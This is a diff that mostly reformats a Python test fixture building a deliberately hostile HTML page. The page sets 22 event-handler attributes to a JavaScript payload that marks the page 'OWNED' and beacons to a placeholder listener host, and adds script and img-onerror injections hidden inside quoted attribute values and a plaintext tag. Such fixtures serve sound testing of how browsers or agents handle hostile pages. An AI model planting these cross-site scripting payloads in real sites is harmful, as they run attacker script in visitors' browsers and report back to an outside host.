@@ -1,5 +1,5 @@
-"""A page that tries everything: to run, to ask, to lead away, to be read as something else. Every address in it is one of
-`LISTENER`, where nobody may ever knock."""
+"""A page that tries everything: to run, to ask, to lead away, to be read as something else. Every address in it is one
+of `LISTENER`, where nobody may ever knock."""
 
 from __future__ import annotations
 
@@ -10,9 +10,10 @@ __all__ = ["ATTRIBUTES", "LISTENER", "hostile_page"]
 LISTENER: Final = "LISTENER.invalid"
 """Put the host and port of whoever listens in its place."""
 EVENTS: Final = (
-    "onload onerror onclick onmouseover onfocus onblur onanimationstart ontransitionend onpointerenter onscroll ontoggle"
-    " onbeforeinput onwheel onpageshow onhashchange onmessage onsubmit oncopy onbegin onend onrepeat onauxclick"
-).split()
+    "onload", "onerror", "onclick", "onmouseover", "onfocus", "onblur", "onanimationstart", "ontransitionend",
+    "onpointerenter", "onscroll", "ontoggle", "onbeforeinput", "onwheel", "onpageshow", "onhashchange",
+    "onmessage", "onsubmit", "oncopy", "onbegin", "onend", "onrepeat", "onauxclick",
+)  # fmt: skip
 RUN: Final = "top.document.title='OWNED';new Image().src='http://LISTENER.invalid/ran'"
 ATTRIBUTES: Final = " ".join(f'{event}="{RUN}"' for event in EVENTS)
 QUOTE: Final = "The ministry installed 1,500 cameras at schools in Pyongyang in May 2021."
@@ -62,5 +63,5 @@ def hostile_page(listener: str) -> bytes:
 <div popover id=pop {ATTRIBUTES}>popover</div><button popovertarget=pop>p</button><plaintext-x onfocus="{RUN}" tabindex=1>p</plaintext-x>
 <p title='"><img src=x onerror="{RUN}">' lang='"><script>{RUN}</script>' dir="rtl" class="gone">attributes</p>
 {deep}
-<p>The last words.</p><plaintext><script>{RUN}</script>"""
+<p>The last words.</p><plaintext><script>{RUN}</script>"""  # noqa: E501
     return page.replace("LISTENER.invalid", listener).encode("utf-8", "surrogatepass")
